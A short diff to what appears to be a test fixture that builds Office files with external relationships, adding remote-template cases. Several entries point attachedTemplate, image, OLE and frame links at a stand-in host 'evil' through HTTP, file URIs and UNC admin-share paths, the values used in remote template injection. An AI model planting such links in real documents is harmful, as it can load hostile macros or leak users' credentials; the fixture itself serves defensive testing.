@@ -127,6 +127,9 @@ def offices() -> Files:
     outside = {
         "template": relation("attachedTemplate", "http://evil.example/t.dotm"),
         "template-like-link": relation("attachedTemplate", "http://evil.example/hyperlink/t.dotm"),
+        "template-on-a-share": relation("attachedTemplate", "file:///C:\\..\\\\evil\\t.dotm"),
+        "template-of-a-server": relation("attachedTemplate", "file://evil/t.dotm"),
+        "template-by-name": relation("attachedTemplate", "\\\\evil\\c$\\t.dotm"),
         "picture": relation("image", "\\\\evil\\a.png"),
         "object": relation("oleObject", "http://evil.example/a.html!"),
         "frame": relation("frame", "http://evil.example/"),
